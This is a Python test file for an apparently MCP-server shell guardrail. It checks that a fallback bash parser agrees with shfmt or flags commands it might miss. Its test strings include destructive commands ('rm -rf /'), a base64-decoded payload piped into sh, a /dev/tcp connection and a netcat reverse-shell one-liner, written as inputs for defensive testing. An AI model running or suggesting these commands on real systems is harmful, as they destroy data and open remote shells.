# mypy: disable-error-code="no-untyped-call, union-attr, comparison-overlap"
"""The parser for machines without shfmt gives what shfmt gives, or says that it could not."""

import pytest

from mcp_server.guardrails.script.shell import bash_tree, shfmt
from tests.guardrails.script.shell.shell_scripts import described, read

_ALIKE = [
    'A=1 rm -rf "$x/a${y:-b}" $(ls) \'c\'"d" > f 2>&1 &',
    "a && b || ! c | d",
    "if a; then b; elif c; then d; else e; fi",
    "for x in a b; do rm $x; done; while a; do b; done; until c; do d; done",
    "case $x in a|b) c;; 'd e') f;; *) g;; esac",
    'f() { rm "$1"; }; f x; (b); [[ -f x && $a == b ]] && c; [ -e y ] || d; ((x + 1))',
    "export A=b C; local d=$(e); readonly F",
    "cat <<EOF\n\na $x $(rm y)\nEOF\nrm z",
    "bash <<'EOF'\nrm x\nEOF",
    "a=(1 2); a+=(3); rm \"${a[@]}\" {a,b}/{1..3} $'\\x72' `ls` ~/x a\\ b",
    "x=$(( 1 + $(rm y) )); diff <(a) <(b) <<< c",
    'echo "  $x" "a\\$b" "${x%.*}.d"',
    "sudo sh -c 'rm x'; eval \"rm y\"; echo cm0geAo= | base64 -d | sh",
]
_HIDING = [
    "cat <<'EOF'; rm -rf /\nx\nEOF",
    "cat <<EOF > f | bash\nrm x\nEOF",
    "cat <<A <<B\nrm x\nA\nrm y\nB",
    "exec 3<>/dev/tcp/host/80",
    "coproc rm x",
    "python3 - <<'EOF'\nimport os\nEOF",
    "mkfifo f; nc host 1 0<f | sh 1>f",
    "cat <<EOF\n`rm x`\nEOF",
    "echo ${a:-$(rm x)}",
    "rm a\nif then\nrm b",
    "echo `rm \\`rm y\\``",
]


def _facts(command):
    redirects = [(r.operator, r.target.text, r.descriptor) for r in command.redirects]
    words = [(word.text, word.quoted) for word in command.words]
    return command.name, words, redirects, command.span, command.background


@pytest.fixture
def without_shfmt(monkeypatch):
    monkeypatch.setattr(shfmt, "program", lambda: None)


@pytest.mark.parametrize("script", _ALIKE)
def test_both_parsers_agree(script, monkeypatch):
    expected = read(script)
    monkeypatch.setattr(shfmt, "program", lambda: None)
    found = read(script)
    assert found.gaps == ()
    assert [_facts(command) for command in found.commands] == [
        _facts(command) for command in expected.commands
    ]


@pytest.mark.parametrize("script", _HIDING)
def test_what_the_second_parser_may_hide_is_a_gap(script, without_shfmt):
    assert read(script).gaps != ()


def test_a_program_behind_time_is_found(without_shfmt):
    assert described("time rm x")[-1] == "time> rm x"


@pytest.mark.parametrize(
    ("text", "is_certain"),
    [
        ("rm -rf /etc", True),
        ("a && b | c; d > 'f g'", True),
        ("a $b", False),
        ("a <<B\nB", False),
        ("if a; then b; fi", False),
        ("time a", False),
        ("(a)", False),
        ("a\\b", False),
    ],
)
def test_only_plain_texts_are_left_to_the_second_parser(text, is_certain):
    assert bash_tree.is_certain(text) is is_certain
